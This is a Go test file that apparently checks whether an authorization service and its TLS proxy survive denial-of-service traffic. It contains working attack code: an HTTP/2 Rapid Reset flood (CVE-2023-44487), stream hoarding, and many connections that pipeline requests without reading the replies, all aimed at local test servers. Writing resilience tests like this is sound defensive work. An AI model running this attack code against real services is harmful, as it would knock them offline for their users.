package faulttest

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Rows attack what speaks HTTP/2. A node does not: the TLS proxy in front of it does, and passes on what it is sent.
func http2Rows() []row {
	return []row{{
		name:  "http2",
		what:  "through a TLS proxy, HTTP/2 streams are opened and reset at once (CVE-2023-44487), and answers not read; at the nodes themselves HTTP/2 is spoken, and 300 connections ask without reading, for 6 s",
		abuse: "ABUSE 41", set: plainRow(http2Attack),
	}}
}

// How the attack is made. What makes it shares the machine with what it is made on, so it is a burst in each moment, and no endless loop.
const (
	resetters, burst, burstEvery = 2, 25, 100 * time.Millisecond
	hoarders, hoard              = 10, 100
	deaf, deafAsks               = 300, 40
)

func http2Attack(s *scene) {
	front := newFront(s)
	over := time.Now().Add(6 * time.Second)
	var all sync.WaitGroup
	var reset atomic.Int64
	for range resetters {
		all.Go(func() {
			for time.Now().Before(over) { // a proxy hangs up on such a client, which comes again
				front.attack(s.endpoint("authorization_endpoint"), over, func(c *streams) error { return c.openAndReset(&reset) })
			}
		})
	}
	for range hoarders {
		all.Go(func() {
			front.attack(s.balancer.url()+"/.well-known/openid-configuration", over, func(c *streams) error { return c.hoard() })
		})
	}
	for i := range deaf {
		all.Go(func() { askDeafly(s.nodes[i%len(s.nodes)].address(), over) })
	}
	for _, n := range s.nodes {
		if said := speakHTTP2(s, n.address()); !strings.HasPrefix(said, "HTTP/1.1 4") && !strings.HasPrefix(said, "HTTP/1.1 505") && said != "" {
			s.t.Errorf("a node that is spoken to in HTTP/2 says %.60q", said)
		}
	}
	all.Wait()
	s.ends()
	s.note = fmt.Sprintf("%d streams were reset", reset.Load())
	if reset.Load() < 500 {
		s.t.Errorf("only %d streams were reset: that is no attack", reset.Load())
	}
	s.goesOn("machine token", "discovery") // others may be told to come back: the attacker shares two processors with the nodes and stores
}

// front is a TLS proxy of the usual kind: HTTP/2 with browsers, HTTP/1.1 with nodes.
type front struct{ address string }

func newFront(s *scene) *front {
	s.t.Helper()
	proxy := &httputil.ReverseProxy{Transport: s.balancer, Rewrite: func(r *httputil.ProxyRequest) {
		r.Out.URL.Scheme, r.Out.URL.Host = "http", "node" // the balancer chooses it
		r.Out.Host = strings.TrimPrefix(s.balancer.url(), "http://")
		r.Out.Header.Set("X-Forwarded-For", "10.4.4.4")
	}, ErrorHandler: func(w http.ResponseWriter, _ *http.Request, _ error) { w.WriteHeader(http.StatusBadGateway) }}
	server := httptest.NewUnstartedServer(proxy)
	server.EnableHTTP2 = true
	server.Config.ErrorLog = log.New(io.Discard, "", 0) // of clients that it hangs up on
	server.StartTLS()
	s.t.Cleanup(func() {
		server.CloseClientConnections()
		server.Close()
	})
	return &front{address: server.Listener.Addr().String()}
}

// streams are those of one connection of an attacker.
type streams struct {
	framer *http2.Framer
	head   []byte // the fields of each request, as HPACK has them
	next   uint32 // the number of the next stream
}

// attack opens a connection and does something on it again and again, until it fails or the time is over.
func (f *front) attack(address string, over time.Time, again func(*streams) error) {
	conn, err := tls.Dial("tcp", f.address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) // #nosec G402 -- the attacker does not mind
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetWriteDeadline(over)
	c, err := newStreams(conn, address)
	for err == nil && time.Now().Before(over) {
		err = again(c)
		time.Sleep(burstEvery)
	}
}

func newStreams(conn net.Conn, address string) (*streams, error) {
	asked, err := url.Parse(address)
	if err != nil {
		return nil, err
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	encoder.SetMaxDynamicTableSizeLimit(0) // the same bytes mean the same in each request
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", asked.Host}, {":path", asked.RequestURI()}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}); err != nil {
			return nil, err
		}
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	c := &streams{framer: http2.NewFramer(conn, conn), head: head.Bytes(), next: 1}
	return c, c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) // no body is taken
}

// open begins a request.
func (c *streams) open() (id uint32, err error) {
	id = c.next
	c.next += 2
	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.head, EndStream: true, EndHeaders: true})
}

// openAndReset opens streams and resets each at once: the proxy has begun what no one waits for.
func (c *streams) openAndReset(done *atomic.Int64) error {
	for range burst {
		id, err := c.open()
		if err == nil {
			err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			return err
		}
		done.Add(1)
	}
	return nil
}

// hoard opens as many streams as it may, and never lets an answer end.
func (c *streams) hoard() error {
	for c.next < 2*hoard {
		if _, err := c.open(); err != nil {
			return err
		}
	}
	return nil
}

// askDeafly asks a node again and again on one connection, and reads nothing.
func askDeafly(address string, over time.Time) {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetWriteDeadline(over)
	ask := []byte("GET /static/app.css HTTP/1.1\r\nHost: x\r\n\r\n")
	for range deafAsks {
		if _, err := conn.Write(ask); err != nil {
			break
		}
	}
	time.Sleep(time.Until(over))
}

// speakHTTP2 greets a node as a client does that knows it to speak HTTP/2 (RFC 9113, section 3.3), and returns what it says.
func speakHTTP2(s *scene, address string) string {
	s.t.Helper()
	conn, err := net.Dial("tcp", address)
	fatal(s.t, err)
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(slowest))
	_, err = io.WriteString(conn, http2.ClientPreface)
	fatal(s.t, err)
	said, err := io.ReadAll(conn) // to the end: the node hangs up
	if err != nil && len(said) == 0 {
		s.t.Errorf("a node that is spoken to in HTTP/2: %v", err)
	}
	return string(said)
}
